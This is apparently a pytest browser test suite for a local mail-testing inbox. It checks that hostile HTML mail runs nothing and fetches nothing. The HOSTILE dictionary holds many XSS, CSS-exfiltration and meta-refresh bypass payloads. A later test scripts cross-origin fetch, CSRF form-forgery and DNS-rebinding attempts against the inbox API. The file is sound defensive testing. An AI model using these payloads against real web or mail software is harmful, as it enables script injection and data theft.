"""Hostile mail in a real browser: nothing in it runs, nothing is fetched, nothing leads anywhere by itself.

Names under .example lead to a trap on this machine, which counts what is asked of it, so that what is refused is seen to be.
"""

from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from mailkit.inbox import Inbox, Site
from mailkit.smtp import Received
from tests.kit.browser import Chromium, Watched, expect
from tests.kit.trap import trap

pytestmark = pytest.mark.slow


@contextmanager
def opened(
    browser: Chromium, html: str, *, at: str = "#/1/html", head: str = ""
) -> Iterator[tuple[Inbox, Site, Watched]]:
    """The page with one mail of this HTML, opened."""
    raw = f"From: a@evil.example\r\nTo: b@example.com\r\n{head or 'Subject: Hi'}\r\nMIME-Version: 1.0\r\n"
    raw += "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + html.replace(
        "\n", "\r\n"
    )
    with Inbox() as inbox, Site(inbox) as site:
        inbox.archive.add(Received("a@evil.example", ("b@example.com",), raw.encode(), hello="x"))
        with browser.opened(site.url + at) as watched:
            watched.page.wait_for_selector("body[data-ready]")
            yield inbox, site, watched


def rest(watched: Watched) -> None:
    """Let what the mail might do happen: its frame is drawn, and what it has set going without a delay has gone."""
    watched.page.evaluate("new Promise(done => setTimeout(() => setTimeout(done, 40), 40))")


# Each tells if it could: by a request to the trap, a dialog, a change of the page or of the address.
HOSTILE = {
    "script": "<script>fetch('TRAP/script'); alert(1); top.pwned = 1</script>",
    "script from elsewhere": "<script src='TRAP/x.js'></script>",
    "module": "<script type=module>import 'TRAP/m.js'</script>",
    "handler": "<img src=x onerror=\"fetch('TRAP/onerror'); alert(1)\"><svg onload=alert(1)><body onload=alert(1)>",
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(1)>x",
    "frame": "<iframe src='TRAP/frame'></iframe><iframe srcdoc=\"<script>top.pwned=1</script>\"></iframe>",
    "object": "<object data='TRAP/object'></object><embed src='TRAP/embed'><applet code=x archive='TRAP/applet'></applet>",
    "image": "<img src='TRAP/img'><img srcset='TRAP/srcset 1x'><picture><source srcset='TRAP/picture'><img></picture>",
    "image of the page": "<input type=image src='TRAP/input'><video poster='TRAP/poster' src='TRAP/video' autoplay></video><audio src='TRAP/audio' autoplay></audio><track src='TRAP/track'>",
    "svg image": "<svg><image href='TRAP/svg'/><use href='TRAP/use#x'/><feImage href='TRAP/fe'/></svg>",
    "background": "<table background='TRAP/background'><tr><td style=\"background:url('TRAP/css')\">x",
    "style sheet": "<link rel=stylesheet href='TRAP/link.css'><style>@import url('TRAP/import.css');</style>",
    "font": "<style>@font-face{font-family:x;src:url('TRAP/font')}p{font-family:x}</style><p>x",
    "css exfiltration": "<style>input[value^='s']{background:url('TRAP/starts-with-s')}a[href]{content:url('TRAP/content')}li{list-style:url('TRAP/list')}p{cursor:url('TRAP/cursor'),auto;mask:url('TRAP/mask')}</style><input value=secret><li>x<p>x",
    "refresh": "<meta http-equiv=refresh content='0;url=TRAP/refresh'>",
    "refresh late": "<p>x</p><META content='0;url=TRAP/refresh' HTTP-EQUIV='Refresh'>",
    "refresh behind a quoted bracket": "<meta content='0;url=TRAP/quoted?>' http-equiv=refresh>",
    "refresh behind a lot": f"<meta {'x' * 5000} http-equiv=refresh content='0;url=TRAP/long'>",
    "refresh in references": "<meta http-equiv='&#114;efresh' content='0;url=TRAP/reference'>",
    "refresh behind a stray quote": "<meta a'b content='0;url=TRAP/stray' http-equiv=refresh>",
    "refresh to script": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "prefetch": "<link rel=prefetch href='TRAP/prefetch'><link rel=preload as=image href='TRAP/preload'><link rel=prerender href='TRAP/prerender'><link rel=modulepreload href='TRAP/mp'>",
    "icon and manifest": "<link rel=icon href='TRAP/icon'><link rel=manifest href='TRAP/manifest'>",
    "base": "<base href='TRAP/'><img src=relative>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src='TRAP/csp'>",
    "ping": "<a href='#' ping='TRAP/ping' id=x>x</a>",
    "mathml and foreign": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "unclosed": "<img src='TRAP/dangling?",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "noscript": "<noscript><img src='TRAP/noscript'></noscript>",
    "template": "<template shadowrootmode=open><style>@import 'TRAP/shadow'</style><img src='TRAP/shadow-img'></template>",
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src='TRAP/nul\0'>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "inbox's own": "<img src='/api/messages'><iframe src='/'></iframe><script src='/static/main.js'></script>",
    "window names": "<form name=body><input name=dataset></form><img name=getElementById>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_when_it_is_opened_then_nothing_runs_and_nothing_is_fetched(browser: Chromium, name: str) -> None:
    """In the frame of the page, in light and dark, and in a tab of its own."""
    with trap() as web, opened(browser, HOSTILE[name].replace("TRAP", web.url) + "<p>end</p>") as (_, site, watched):
        page = watched.page
        page.frame_locator("iframe").locator("html").wait_for(state="attached")
        rest(watched)
        page.get_by_role("button", name="Dark, forced on it").click()
        rest(watched)
        assert page.evaluate("window.pwned") is None
        assert page.url.startswith(site.url)
        alone = page.context.new_page()
        alone.goto(site.url + "view/1")
        rest(watched)  # in the page: in the sandbox there are no timers
        assert alone.url == site.url + "view/1"
        assert watched.dialogs == []
        assert watched.errors == []
        assert web.paths == []
        assert len(page.context.pages) == 2


def test_trap_when_the_same_page_is_not_sandboxed_then_it_does_hear_of_it(browser: Chromium) -> None:
    """The proof that the test above could fail: the trap works."""
    with (
        trap() as web,
        trap(f"<img src='http://evil.example:{web.port}/x'>") as plain,
        browser.opened(plain.url) as watched,
    ):
        watched.page.wait_for_load_state("load")
        assert web.paths == ["/x"]


def test_images_when_asked_for_then_they_come_and_still_nothing_runs(browser: Chromium) -> None:
    """Until the message is opened again."""
    with trap() as web:
        html = f"<img src='{web.url}/a.gif'><script>fetch('{web.url}/script')</script><iframe src='{web.url}/frame'></iframe>"
        with opened(browser, html) as (_, _site, watched):
            page = watched.page
            expect(page.get_by_text("2 remote files blocked")).to_be_visible()
            assert web.paths == []
            with page.expect_response(lambda response: response.url.endswith("/a.gif")):
                page.get_by_role("button", name="Load").click()
            rest(watched)
            assert web.paths == ["/a.gif"]
            page.reload()
            page.wait_for_selector("body[data-ready]")
            rest(watched)
            assert web.paths == ["/a.gif"]


def test_images_when_they_are_the_inboxes_own_then_it_refuses_them(browser: Chromium) -> None:
    """A mail with images on is a stranger to the API: it cannot make the browser ask for anything here."""
    with opened(browser, "<p>x") as (inbox, site, watched):
        html = f"<img src='{site.url}api/messages'><img src='{site.url}api/export'>"
        raw = f"From: a@example.com\r\nContent-Type: text/html\r\n\r\n{html}".encode()
        inbox.archive.add(Received("a@example.com", ("b@example.com",), raw, hello="x"))
        page = watched.page
        with page.expect_event("requestfailed", lambda request: "api/export" in request.url) as failed:
            page.goto(site.url + "view/2?images=1")
        assert "NotSameOrigin" in (failed.value.failure or "")


@pytest.mark.parametrize("kind", ["form", "link"])
def test_form_and_link_when_clicked_then_a_form_goes_nowhere_and_a_link_opens_beside(
    browser: Chromium, kind: str
) -> None:
    """A link is followed by a person, in a tab that knows nothing of us; a form never is."""
    with trap(
        "<title>opener</title><script>document.title = String(window.opener) + document.referrer</script>"
    ) as web:
        html = f"<form action='{web.url}/form'><button>Send</button></form><a href='{web.url}/link'>Go</a>"
        with opened(browser, html) as (_, site, watched):
            page = watched.page
            frame = page.frame_locator("iframe")
            if kind == "form":
                frame.get_by_role("button").click()
                rest(watched)
                assert web.paths == []
            else:
                with page.context.expect_page() as popup:
                    frame.get_by_role("link").click()
                expect(popup.value).to_have_title("null")
                assert web.paths[0] == "/link"
            assert page.url.startswith(site.url)


def test_source_when_a_word_is_endless_then_it_is_shown_all_the_same(browser: Chromium) -> None:
    """Time grows with the length of the HTML, not with its square: the page stays alive."""
    with opened(browser, "<p " + "x" * 400_000 + "</p>", at="#/1/source") as (_, _site, watched):
        expect(watched.page.locator("#line-1")).to_contain_text("xxxx", timeout=20_000)


HOSTILE_WORDS = "<img src=x onerror=alert(1)>\"'<script>alert(1)</script>"


@pytest.mark.parametrize("tab", ["html", "source", "raw", "headers", "spam", "check", "tech"])
def test_hostile_fields_when_shown_then_they_are_text(browser: Chromium, tab: str) -> None:
    """Subjects, names, files, tags and header names are never markup, in any tab, in the list, or in a dialog."""
    head = (
        f'Subject: {HOSTILE_WORDS}\r\nX-{"a"}: {HOSTILE_WORDS}\r\nX-Tags: <b>x</b>\r\nCc: "{HOSTILE_WORDS.replace(chr(34), "")}" <c@example.com>\r\n'
        f"Message-ID: <{HOSTILE_WORDS}@x>\r\nReply-To: <javascript:alert(1)>"
    )
    with opened(browser, f"<p>{HOSTILE_WORDS}</p><a href='javascript:alert(1)'>x</a>", at=f"#/1/{tab}", head=head) as (
        inbox,
        _,
        watched,
    ):
        page = watched.page
        expect(page.locator("h1")).to_have_text(HOSTILE_WORDS)
        expect(page.locator(".row .what")).to_have_text(HOSTILE_WORDS)
        expect(page.get_by_role("tab", selected=True)).to_have_id(f"tab-{tab}")
        rest(watched)
        assert page.locator("main img[src=x], main script").count() == 0
        assert page.locator("a[href^=javascript]").count() == 0
        assert watched.dialogs == []
        assert watched.errors == []
        assert len(inbox) == 1


def test_foreign_page_when_it_knows_where_we_are_then_it_reads_and_changes_nothing(browser: Chromium) -> None:
    """By fetch, by form, by image, in a frame, by another name for this machine (DNS rebinding)."""
    with opened(browser, "<p>secret") as (inbox, site, _):
        own = site.url.rstrip("/")
        rebound = f"http://rebound.example:{site.port}"
        page = f"""<title>?</title><iframe src="{own}/" id=frame></iframe><img src="{own}/api/messages/1/raw">
        <form id=form method=post action="{own}/api/rules" enctype=text/plain target=there><input name='{{"rule":"any 550","x":"' value='"}}'></form>
        <iframe name=there></iframe><script>
        const tries = [
          fetch("{own}/api/messages").then(r => r.text()),
          fetch("{own}/api/messages", {{mode: "no-cors", method: "POST", body: "From: x"}}).then(r => r.type === "opaque" ? "" : r.text()),
          fetch("{own}/api/messages", {{method: "DELETE"}}).then(r => r.text()),
          fetch("{rebound}/api/messages").then(r => r.text()),
          new Promise((yes, no) => {{ const s = new EventSource("{own}/api/events"); s.onmessage = () => yes("news"); s.onerror = () => no() }}),
        ];
        document.getElementById("form").submit();
        Promise.allSettled(tries).then(all => document.title = "read:" + all.map(one => one.value || "").join(""));
        </script>"""
        with trap(page) as web, browser.opened(web.url) as watched:
            expect(watched.page).to_have_title("read:")
        assert len(inbox) == 1
        assert list(inbox.rules) == []
        # The page of another name, opened as a page of its own, is refused as well.
        with browser.opened(f"{rebound}/api/messages") as watched:
            assert "not this inbox's" in watched.page.locator("body").inner_text()
